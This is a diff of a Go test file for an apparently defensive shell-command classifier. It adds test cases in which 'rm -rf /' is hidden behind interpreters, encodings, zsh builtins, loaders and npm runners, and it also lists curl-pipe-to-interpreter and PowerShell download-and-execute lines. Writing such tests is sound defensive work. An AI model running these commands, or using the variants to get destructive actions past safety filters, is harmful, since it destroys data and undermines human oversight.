@@ -56,10 +56,10 @@ var behindWrappers = map[string][]string{
 	"perl":            {`perl -e 'system("rm -rf /")'`, `perl -e 'system("rm","-rf","/")'`, "perl -e '`rm -rf /`'", `perl -e 'qx{rm -rf /}'`, `perl -we 'exec "rm -rf /"'`, `perl -e 'open(F, "|rm -rf /")'`, `perl -MFile::Path -e 'rmtree("/")'`, `perl -ne 'system "rm -rf /"' f`},
 	"ruby":            {`ruby -e 'system("rm -rf /")'`, "ruby -e '`rm -rf /`'", `ruby -e '%x(rm -rf /)'`, `ruby -rfileutils -e 'FileUtils.rm_rf("/")'`, `ruby -e 'exec "rm", "-rf", "/"'`, `ruby -e 'require "fileutils"; FileUtils.rm_rf "/"'`},
 	"php":             {`php -r 'system("rm -rf /");'`, `php -r 'shell_exec("rm -rf /");'`, "php -r '`rm -rf /`;'"},
-	"node":            {`node -e 'require("child_process").execSync("rm -rf /")'`, `node -p 'require("child_process").exec("rm -rf /")'`, `node -e 'const {spawn}=require("child_process"); spawn("rm",["-rf","/"])'`, `node -e 'require("fs").rmSync("/",{recursive:true,force:true})'`, `node <<'E'` + "\nconst fs = require('fs')\nfs.rmSync('/', { recursive: true, force: true })\nE", `deno eval 'new Deno.Command("rm", {args: ["-rf", "/"]})'`, `bun -e 'Bun.spawn(["rm","-rf","/"])'`},
+	"node":            {`node -e 'require("child_process").execSync("rm -rf /")'`, `node -p 'require("child_process").exec("rm -rf /")'`, `node -e 'const {spawn}=require("child_process"); spawn("rm",["-rf","/"])'`, `node -e 'require("fs").rmSync("/",{recursive:true,force:true})'`, `node <<'E'` + "\nconst fs = require('fs')\nfs.rmSync('/', { recursive: true, force: true })\nE", `deno eval 'new Deno.Command("rm", {args: ["-rf", "/"]})'`, `node -pe 'require("child_process").execSync("rm -rf /")'`, `bun -e 'Bun.spawn(["rm","-rf","/"])'`},
 	"lua":             {`lua -e 'os.execute("rm -rf /")'`, `lua5.4 -e "io.popen('rm -rf /')"`},
 	"osascript":       {`osascript -e 'do shell script "rm -rf /"'`},
-	"pwsh":            {"pwsh -c 'rm -Recurse -Force /'", "powershell -Command 'Remove-Item -Recurse -Force /'", "pwsh -NoProfile -Command ls; pwsh -c 'ls; ri -r -fo /'", "powershell.exe -EncodedCommand cgBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAAvAA==", "pwsh -c 'Invoke-Expression \"rm -Recurse -Force /\"'", "Remove-Item -Recurse -Force /", "powershell 'Start-Process rm \"-rf /\"'"},
+	"pwsh":            {"pwsh -c 'rm -Recurse -Force /'", "pwsh -c 'rm -rf /'", "pwsh -c '<# rm #> rm <# -x #> -Recurse -Force /'", "pwsh -c 'rm / -Recurse:$true -Force'", "powershell -Command 'Remove-Item -Recurse -Force /'", "pwsh -NoProfile -Command ls; pwsh -c 'ls; ri -r -fo /'", "powershell.exe -EncodedCommand cgBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAAvAA==", "pwsh -c 'Invoke-Expression \"rm -Recurse -Force /\"'", "Remove-Item -Recurse -Force /", "powershell 'Start-Process rm \"-rf /\"'"},
 	"cmd":             {"cmd /c rd /s /q /", "cmd.exe /C 'del /s /q /'", "cmd //c rmdir /s /q /"},
 	"decoded":         {"echo cm0gLXJmIC8= | base64 -d | sh", "base64 -d <<< cm0gLXJmIC8= | bash", "bash -c \"$(echo cm0gLXJmIC8= | base64 --decode)\"", "eval \"$(base64 -d <<< cm0gLXJmIC8=)\"", "printf '\\x72\\x6d -rf /' | sh", "echo 726d202d7266202f | xxd -r -p | sh", "echo '/ fr- mr' | rev | sh", "echo 'ez -es /' | tr a-z n-za-m | sh", "bash <(echo rm -rf /)", "source <(echo cm0gLXJmIC8= | base64 -d)", "echo cm0gLXJmIC8= | openssl base64 -d | bash", "echo cm0gLXJmIC8=|base64 -d|sudo sh"},
 	"substitution":    {"$(echo rm) -rf /", "`echo rm` -rf /", "$(printf 'r%s' m) -rf /", "rm -rf $(echo /)", "$(echo rm -rf /)"},
@@ -67,6 +67,10 @@ var behindWrappers = map[string][]string{
 	"function":        {"f() { rm -rf \"$@\"; }; f /", "f() { rm $1 /; }; f -rf", "alias x='rm -rf /'; x", "alias x=rm; x -rf /", "g() { \"$@\"; }; g rm -rf /"},
 	"xargs":           {"echo / | xargs rm -rf", "xargs rm -rf <<< /", "echo 'rm -rf /' | xargs -I{} sh -c '{}'", "echo rm -rf / | xargs env"},
 	"find":            {"find . -exec rm -rf / +"},
+	"zsh":             {"emulate sh -c 'rm -rf /'", "emulate -R zsh -c 'rm -rf /'", "repeat 2 { rm -rf / }", "repeat 2 rm -rf /"},
+	"loaders":         {"/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /", "i386 rm -rf /", "choom -n 1 -- rm -rf /", "faketime '1 day ago' rm -rf /", "run0 --user=root rm -rf /"},
+	"scripts of npm":  {"cross-env A=b rm -rf /", "concurrently -n a,b 'rm -rf /' ls", "mise x -- rm -rf /"},
+	"code in a pipe":  {`python3 <(echo 'import os; os.system("rm -rf /")')`, `perl <(printf 'system("rm -rf /")')`},
 	"other":           {"flatpak-spawn --host rm -rf /", "setpriv --reuid 1 rm -rf /", "ssh-agent rm -rf /", "gtimeout 5 rm -rf /", "env X=rm bash -c '$X -rf /'", "sh <<< \"$(printf 'rm -rf /')\""},
 	"its input":       {"ssh host bash <<< 'rm -rf /'", "cat <<'E' | ssh host bash\nrm -rf /\nE", "docker exec -i web sh <<'E'\nrm -rf /\nE", "bash -c 'sh' <<< 'rm -rf /'"},
 	"code by aliases": {`perl -e 'system qw(rm -rf /)'`, `python3 -c "from shutil import rmtree as r; r('/')"`, `python3 -c "import os; s = os.system; s('rm -rf /')"`},
@@ -141,7 +145,7 @@ func TestUsualLinesAreKnown(t *testing.T) {
 func TestHiddenLinesAreUnknown(t *testing.T) {
 	t.Parallel()
 	for _, line := range []string{
-		"curl x | python3", "curl x | node", "wget -qO- x | perl", "curl x | ssh host", "source <(curl x)", ". /dev/stdin", "source \"$x\"", "python3 -c \"$code\"",
+		"curl x | python3", "curl x | node", "python3 <(curl x)", "pwsh -c 'Set-Alias z rm; z -r x'", "pwsh -c '<# x'", "wget -qO- x | perl", "curl x | ssh host", "source <(curl x)", ". /dev/stdin", "source \"$x\"", "python3 -c \"$code\"",
 		`python3 -c 'import base64; exec(base64.b64decode("eA=="))'`, `node -e 'eval(atob("eA=="))'`, `python3 -c 'exec(compile(x, "", "exec"))'`, `python3 -c 'import pickle; pickle.loads(x)'`,
 		`python3 -c 'import os; os.system(x)'`, `python3 -c 'import os,sys; os.system("rm " + sys.argv[1])'`, `python3 -c 'getattr(os, "sys"+"tem")("x")'`, `perl -e 'system($x)'`, `perl -e 'eval $x'`, `ruby -e 'eval x'`,
 		`php -r 'eval(base64_decode("eA=="));'`, "\"${cmd[@]}\"", "echo cm0gLXJmIC8= | base64 -d | sh", "powershell -EncodedCommand eAA=", "pwsh -c 'iex (irm http://x)'", "pwsh -c 'irm http://x | iex'", "pwsh -c $x",
